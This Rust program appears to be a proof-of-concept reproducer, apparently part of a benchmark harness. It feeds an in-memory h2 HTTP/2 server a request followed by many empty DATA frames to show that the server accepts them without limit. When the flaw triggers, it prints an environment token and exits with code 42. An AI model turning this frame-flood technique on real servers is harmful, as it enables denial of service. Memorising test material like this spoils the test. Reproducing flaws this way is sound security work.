//! Shows that a server takes any number of empty DATA frames for a request that nobody reads.
//! The connection is a buffer in memory; the argument is the number of frames.

use h2::Reason;
use std::future::Future;
use std::io::Cursor;
use std::pin::pin;
use std::task::{Context, Poll, Waker};

const POLLS_MAX: usize = 100;
const FRAMES_MAX: usize = 800;
/// A server may well take and keep as many as this.
const FRAMES_HARMLESS: usize = 200;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The head of a frame that is larger than allowed; it tells that all before was taken.
const TOO_LARGE: &[u8] = &[0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1];
/// A GET of / by http, all from the static table.
const REQUEST: &[u8] = &[0x82, 0x84, 0x86];

fn end(present: bool) -> ! {
    println!("{}", std::env::var("BACKSTITCH_TOKEN").unwrap_or_default());
    std::process::exit(if present { 42 } else { 0 })
}

fn frame(kind: u8, flags: u8, stream: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![0, 0, payload.len() as u8, kind, flags, 0, 0, 0, stream];
    frame.extend(payload);
    frame
}

fn poll<T>(mut step: impl FnMut(&mut Context<'_>) -> Poll<T>) -> Option<T> {
    let mut context = Context::from_waker(Waker::noop());
    (0..POLLS_MAX).find_map(|_| match step(&mut context) {
        Poll::Ready(value) => Some(value),
        Poll::Pending => None,
    })
}

/// Why the connection was given up, if it was.
fn serve(buffer: &mut Cursor<Vec<u8>>) -> Option<Reason> {
    let builder = h2::server::Builder::new();
    let mut handshake = pin!(builder.handshake::<_, Cursor<Vec<u8>>>(buffer));
    let mut connection = poll(|context| handshake.as_mut().poll(context))?.ok()?;
    match poll(|context| connection.poll_accept(context))?? {
        Ok(_) => None,
        Err(error) => error.reason(),
    }
}

/// Whether a request with so many empty frames is taken.
fn taken(frames: usize) -> bool {
    // The server writes first and into the same buffer, so that much must stand before the rest.
    let mut empty = Cursor::new(Vec::new());
    serve(&mut empty);
    let mut bytes = vec![0; empty.into_inner().len()];
    bytes.extend(PREFACE);
    bytes.extend(frame(4, 0, 0, &[]));
    bytes.extend(frame(1, 4, 1, REQUEST));
    bytes.extend(frame(0, 0, 1, &[]).repeat(frames));
    bytes.extend(TOO_LARGE);
    let reason = serve(&mut Cursor::new(bytes));
    println!("{frames} frames: {reason:?}");
    reason == Some(Reason::FRAME_SIZE_ERROR)
}

fn main() {
    assert!(taken(1));

    let argument = std::env::args_os().nth(1).unwrap_or_default();
    let Ok(count) = argument.to_string_lossy().parse::<usize>() else {
        end(false)
    };
    end(taken(count.min(FRAMES_MAX)) && count > FRAMES_HARMLESS)
}
